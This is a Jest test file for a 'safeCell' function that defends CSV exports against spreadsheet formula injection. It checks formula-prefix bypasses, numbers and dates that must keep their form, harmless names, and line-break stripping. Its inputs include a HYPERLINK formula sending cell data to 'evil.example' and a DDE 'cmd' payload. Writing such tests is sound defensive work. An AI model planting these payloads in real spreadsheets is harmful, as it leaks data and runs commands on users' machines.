import { describe, expect, it } from '@jest/globals';
import { safeCell } from '@buitenboord/connectors/files/safe-cell.js';

describe('text in a CSV that a spreadsheet may open', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?x="&A1,"klik")',
    '+31612345678',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u00a0=1+1',
    '"=1+1',
    "'=1+1",
    '\u0000=1+1',
  ])('never begins like a formula: %j', (text) => {
    expect(safeCell(text)).toMatch(/^'/u);
  });

  it.each(['x;=1+1', 'x,=1+1', 'x, =1+1', 'x,"=1+1"', 'x|＝1+1'])(
    'nor does a part of it, for a program that splits elsewhere: %j',
    (text) => {
      expect(safeCell(text)).toContain("'");
      expect(safeCell(text)).not.toMatch(/[;,|]\s*["]?[=＝]/u);
    },
  );

  it.each([
    '0012345',
    '00',
    '3-4',
    '3/4',
    '1.10',
    '4E1',
    '12e5',
    '123456789012',
    '1 mei',
    'mei-26',
    '12 dec 2026',
    '10:30',
    '50%',
    '１２３',
    '2026-06-09',
  ])('keeps what looks like a number or a date letter by letter: %s', (text) => {
    expect(safeCell(text)).toBe(`\t${text}`);
  });

  it.each([
    '12345',
    '0',
    '1305',
    'Sanne de Wit',
    "Tim 't Hart",
    's0012345',
    'SE1',
    'Anne-Marie',
    '3B',
    'Yıldız 🚢',
    'Jan',
    'May Li',
    'd3',
    '',
  ])('leaves harmless text alone: %j', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it('can’t begin a row of its own', () => {
    expect(safeCell('a\r\nb\u2028c\u0085d')).toBe('a b c d');
  });
});
